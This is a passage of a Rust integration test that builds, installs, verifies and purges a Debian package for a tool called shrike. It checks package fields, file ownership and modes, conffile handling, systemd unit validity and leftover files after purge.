        std::thread::sleep(Duration::from_secs(1));
    }
}

fn dpkg_ok(args: &[&str]) -> String {
    let out = dpkg(args);
    assert!(out.status.success(), "dpkg {args:?}: {}{}", text(&out.stdout), text(&out.stderr));
    text(&out.stdout)
}

/// dpkg's status of shrike: `install ok installed`, ..., or `not-installed` when dpkg has no
/// record of it.
fn package_status() -> String {
    let out = run(Command::new("dpkg-query").args(["-W", "-f=${Status}", "shrike"]));
    let status = text(&out.stdout).trim().to_string();
    if !out.status.success() || status.is_empty() || status.ends_with("not-installed") {
        "not-installed".to_string()
    } else {
        status
    }
}

/// Purges the package when dropped, so a failing test leaves no package behind.
struct Purge;

impl Drop for Purge {
    fn drop(&mut self) {
        if package_status() != "not-installed" {
            let out = dpkg(&["--purge", "shrike"]);
            if !out.status.success() {
                eprintln!("cleanup: dpkg --purge shrike failed: {}", text(&out.stderr));
            }
        }
    }
}

fn md5(path: &Path) -> String {
    let out = run(Command::new("md5sum").arg(path));
    text(&out.stdout).split_whitespace().next().unwrap().to_string()
}

#[test]
fn deb_installs_verifies_and_purges_cleanly() {
    let test = "deb_installs_verifies_and_purges_cleanly";
    if !privileged(test) || !have(test, "dpkg-deb") || !have(test, "systemd-analyze") {
        return;
    }
    assert_eq!(
        package_status(),
        "not-installed",
        "a shrike package is already installed here; this test installs and purges its own: remove it first (dpkg --purge shrike)"
    );
    let deploy = workspace().join("deploy/systemd");
    let out_dir = TempDir::new_in(&std::env::temp_dir(), "deb");

    // The packaging lives in xtask: `cargo xtask deb` around the binary under test.
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    let out = run(Command::new(cargo)
        .current_dir(workspace())
        .args(["xtask", "deb", "--binary", shrike(), "--output"])
        .arg(&out_dir.0)
        .stdin(Stdio::null()));
    assert!(out.status.success(), "cargo xtask deb: {}", text(&out.stderr));
    let arch = text(&run(Command::new("dpkg").arg("--print-architecture")).stdout).trim().to_string();
    let version = VERSION.replace('-', "~");
    let deb = out_dir.0.join(format!("shrike_{version}_{arch}.deb"));
    assert_eq!(text(&out.stdout).trim(), deb.display().to_string(), "it prints the package's path");
    assert_eq!(std::fs::read_dir(&out_dir.0).unwrap().count(), 1, "only the .deb is left in the output directory");

    let field = |name: &str| text(&run(Command::new("dpkg-deb").args(["-f"]).arg(&deb).arg(name)).stdout).trim().to_string();
    assert_eq!(field("Package"), "shrike");
    assert_eq!(field("Version"), version);
    assert_eq!(field("Architecture"), arch);
    assert!(field("Depends").starts_with("libc6 (>= "), "{}", field("Depends"));
    assert!(!field("Maintainer").is_empty() && !field("Description").is_empty());

    let _purge = Purge;
    let deb_arg = deb.to_str().unwrap();
    dpkg_ok(&["-i", deb_arg]);
    assert_eq!(package_status(), "install ok installed");
    let status = dpkg_ok(&["-s", "shrike"]);
    assert!(status.contains(&format!("Version: {version}\n")), "{status}");

    // Files.
    let installed: Vec<(&str, PathBuf, u32)> = vec![
        ("/usr/bin/shrike", PathBuf::from(shrike()), 0o755),
        ("/lib/systemd/system/shrike.service", deploy.join("shrike.service"), 0o644),
        ("/etc/shrike/shrike.toml", deploy.join("shrike.toml"), 0o644),
        ("/etc/shrike/rules.toml", deploy.join("rules.toml"), 0o644),
        ("/usr/share/doc/shrike/README.systemd.md", deploy.join("README.md"), 0o644),
        ("/usr/share/doc/shrike/README.md", workspace().join("README.md"), 0o644),
    ];
    let listed = dpkg_ok(&["-L", "shrike"]);
    for (path, source, mode) in &installed {
        let meta = std::fs::metadata(path).unwrap_or_else(|e| panic!("{path}: {e}"));
        assert_eq!((meta.uid(), meta.gid(), meta.mode() & 0o7777), (0, 0, *mode), "{path}: owner and mode");
        assert!(std::fs::read(path).unwrap() == std::fs::read(source).unwrap(), "{path} is {}", source.display());
        assert!(listed.lines().any(|l| l == *path), "dpkg -L lists {path}");
    }
    let copyright = std::fs::read_to_string("/usr/share/doc/shrike/copyright").unwrap();
    assert!(copyright.contains("License: MIT or Apache-2.0"), "{copyright}");

    // Conffiles: both files under /etc, with the md5 of what was shipped.
    let conffiles = text(&run(Command::new("dpkg-query").args(["-W", "-f=${Conffiles}", "shrike"])).stdout);
    for name in ["shrike.toml", "rules.toml"] {
        let line = format!("/etc/shrike/{name} {}", md5(&deploy.join(name)));
        assert!(conffiles.lines().any(|l| l.trim() == line), "conffile {line} in {conffiles}");
    }

    // Enabled the way debhelper does it (systemd is not running here, so not started).
    let wants = Path::new("/etc/systemd/system/multi-user.target.wants/shrike.service");
    if Path::new("/usr/bin/deb-systemd-helper").exists() {
        assert_eq!(std::fs::read_link(wants).unwrap(), Path::new("/lib/systemd/system/shrike.service"));
    }

    // The installed unit verifies, without a word.
    let out = run(Command::new("systemd-analyze").args(["verify", "/lib/systemd/system/shrike.service"]));
    assert!(out.status.success() && out.stdout.is_empty() && out.stderr.is_empty(), "systemd-analyze verify: {out:?}");

    // An administrator's edit of a conffile survives a reinstall, and a remove.
    let config = Path::new("/etc/shrike/shrike.toml");
    let edited = format!("{}# edited by the administrator\n", std::fs::read_to_string(config).unwrap());
    std::fs::write(config, &edited).unwrap();
    dpkg_ok(&["-i", deb_arg]);
    assert_eq!(std::fs::read_to_string(config).unwrap(), edited, "a reinstall keeps the edit");
    dpkg_ok(&["--remove", "shrike"]);
    assert_eq!(package_status(), "deinstall ok config-files");
    assert!(!Path::new("/usr/bin/shrike").exists());
    assert_eq!(std::fs::read_to_string(config).unwrap(), edited, "remove keeps the conffiles");

    // What a running service leaves: spool and logs. Purge removes them with everything else.
    std::fs::create_dir_all("/var/lib/shrike/spool/siem").unwrap();
    std::fs::write("/var/lib/shrike/spool/siem/00000000000000000001-x.json", "{}").unwrap();
    std::fs::create_dir_all("/var/log/shrike").unwrap();
    std::fs::write("/var/log/shrike/findings.jsonl", "{}\n").unwrap();
    dpkg_ok(&["--purge", "shrike"]);
    assert_eq!(package_status(), "not-installed");
    let mut left: Vec<String> = installed.iter().map(|(p, _, _)| p.to_string()).collect();
    left.extend(
        [
            "/etc/shrike",
            "/var/lib/shrike",
            "/var/log/shrike",
            "/usr/share/doc/shrike",
            "/var/lib/systemd/deb-systemd-helper-enabled/shrike.service.dsh-also",
            "/var/lib/systemd/deb-systemd-helper-enabled/multi-user.target.wants/shrike.service",
        ]
        .map(String::from),
    );
    left.push(wants.display().to_string());
    left.retain(|p| Path::new(p).symlink_metadata().is_ok());
    left.extend(
        std::fs::read_dir("/var/lib/dpkg/info")
            .unwrap()
            .filter_map(Result::ok)
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("shrike.")),
    );
    assert!(left.is_empty(), "left after purge: {left:?}");
}
